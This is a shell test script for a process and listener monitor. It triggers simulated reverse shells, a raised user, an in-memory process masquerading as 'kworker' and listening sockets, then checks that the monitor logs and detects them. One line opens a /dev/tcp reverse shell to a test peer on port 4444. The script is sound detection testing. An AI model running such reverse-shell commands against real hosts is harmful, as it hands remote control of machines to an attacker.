#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# What process and listener events say: programs that start, shells on a connection and what only
# looks like one, a user that is raised, a program that is no file, sockets that listen; and that a
# detection shows the process.
# alone: every weir of the machine sees its shells and raised users

. "$(dirname "$0")/../lib.sh"
. "$TREE/tests/lib/net.sh"
require_live cc

PYTHON=$(python3 -c 'import sys; print(sys.executable)')
SOCKETS=$TREE/tests/lib/sockets.py
EVENTS=$SCRATCH/here/events.json
THERE=10.62.1.1

host here there
wire here eth0 there eth0
address here eth0 10.62.1.2/24
address there eth0 $THERE/24

# says DATASET KEY=VALUE… FIELD…
says() { python3 "$LOOK" field "$EVENTS" "$@" 2>&1; }

same_soon() {
	local name=$1 expected=$2 got tries=0
	shift 2
	while got=$("$@") && [ "$got" != "$expected" ] && [ $((tries++)) -lt $((60 * SLOW)) ]; do sleep 0.2; done
	same "$name" "$expected" "$got"
}

# Whoever connects is told to wait a little and to leave.
behind there "$PYTHON" -c '
import socket, time
server = socket.create_server(("0.0.0.0", 4444))
while True:
    connection, _ = server.accept()
    connection.sendall(b"sleep 2\nexit\n")
    kept = connection
'
behind there "$PYTHON" "$SOCKETS" serve 7000 >/dev/null
wait_for 10 listening there 4444
wait_for 10 listening there 7000
start_or_leave here
on here "$WEIR" status --json >"$SCRATCH/status"
if [ "$(python3 "$LOOK" value "$SCRATCH/status" owners.on)" != True ]; then
	skip processes "$(python3 "$LOOK" value "$SCRATCH/status" owners.why)"
	exit 0
fi

cat >"$SCRATCH/brief.c" <<-'END'
	#include <arpa/inet.h>
	#include <stdlib.h>
	#include <sys/socket.h>

	int main(int argc, char **argv)
	{
		struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
		int fd = socket(AF_INET, SOCK_STREAM, 0);

		inet_pton(AF_INET, argv[1], &to.sin_addr);
		return connect(fd, (struct sockaddr *)&to, sizeof(to)) && argc;
	}
END
cc -O1 -static -o "$SCRATCH/brief" "$SCRATCH/brief.c" 2>"$SCRATCH/cc" || not_ok processes/brief "$(cat "$SCRATCH/cc")"
printf '#!/bin/sh\n%s %s 7000\n' "$SCRATCH/brief" $THERE >"$SCRATCH/script"
chmod +x "$SCRATCH/script"

on here "$SCRATCH/script"
on here "$PYTHON" "$SOCKETS" shell $THERE 4444
on here bash -c "exec 0<>/dev/tcp/$THERE/4444 1>&0; read -r _; sleep 3; :"
on here "$PYTHON" "$SOCKETS" pipes 0
on here "$PYTHON" "$SOCKETS" raise $THERE 7000 >"$SCRATCH/raise.pid"
BRIEF=$SCRATCH/brief on here "$PYTHON" "$SOCKETS" memory $THERE 7000
behind here "$PYTHON" "$SOCKETS" serve 7003 >"$SCRATCH/serve.pid"

behind here "$PYTHON" "$SOCKETS" unbound 0 >"$SCRATCH/port"
wait_for 10 test -s "$SCRATCH/port"

same_soon processes/script "script /bin/sh $SCRATCH/script" bash -c \
	"python3 $LOOK field $EVENTS process process.name=script process.name process.command_line"
same_soon processes/child "script" says process process.name=brief event.action=exec process.parent.name
same_soon processes/shell-on-a-connection "sh exec $THERE 4444 tcp" \
	says process "process.command_line=sh" process.stdio_socket=true process.name event.action \
	destination.ip destination.port network.transport
same_soon processes/shell-on-a-unix-socket 1 \
	python3 "$LOOK" count "$EVENTS" process process.command_line=sh process.stdio_socket=false
same_soon processes/shell-that-connects-itself "bash True" \
	says process event.action=stdio_socket process.name process.stdio_socket
same_soon processes/raised "$(cat "$SCRATCH/raise.pid") 1000 0 False" \
	says process event.action=uid process.pid user.id user.effective.id process.setuid
same_soon processes/in-memory "kworker $THERE 7000 True memory" \
	says process process.location=memory process.command_line process.deleted process.location
same_soon processes/listens "listen 7003 tcp
listen 7003 udp" says listener "process.pid=$(cat "$SCRATCH/serve.pid")" event.action source.port network.transport

# found RULE: there is a detection of it.
found() { [ "$(query here "select count(*) from detection where rule_name = '$1'")" -gt 0 ]; }
same_soon processes/listens-unbound "listen tcp" \
	says listener "source.port=$(cat "$SCRATCH/port")" event.action network.transport
check processes/reverse-shell-is-detected wait_for $((20 * SLOW)) found REVERSE_SHELL
id=$(query here "select id from detection where rule_name = 'REVERSE_SHELL' limit 1")
expect processes/detection-shows-the-process 0 "→ $THERE:4444.*sh \\([0-9]+\\)" \
	"$WEIR" detections show "$id" -c "$SCRATCH/here/weir.yaml"

# ---- where the kernel cannot ----

weir_stop here
cat >"$SCRATCH/weir" <<-END
	#!/bin/sh
	exec unshare --mount sh -c 'umount -a -t cgroup2; exec "$WEIR" "\$@"' weir "\$@"
END
chmod +x "$SCRATCH/weir"
whole=$WEIR
WEIR=$SCRATCH/weir
start_or_leave here
on here "$whole" status --json >"$SCRATCH/status"
same processes/off-is-said "False no cgroup2 hierarchy is mounted" "$(python3 "$LOOK" value "$SCRATCH/status" owners.on) \
$(python3 "$LOOK" value "$SCRATCH/status" owners.why | cut -d: -f1)"
on here "$SCRATCH/brief" $THERE 7000
check processes/off-and-connections-are-seen wait_for $((20 * SLOW)) grep -q '"weir.connection".*"destination.port":7000' "$EVENTS"

# ---- where nobody wants to know ----

weir_stop here
WEIR=$whole
printf 'owners:\n  enabled: false\n' >>"$SCRATCH/here/weir.yaml"
start_or_leave here
on here "$WEIR" status --json >"$SCRATCH/status"
same processes/unwanted-is-said "False owners.enabled is false" "$(python3 "$LOOK" value "$SCRATCH/status" owners.on) \
$(python3 "$LOOK" value "$SCRATCH/status" owners.why)"
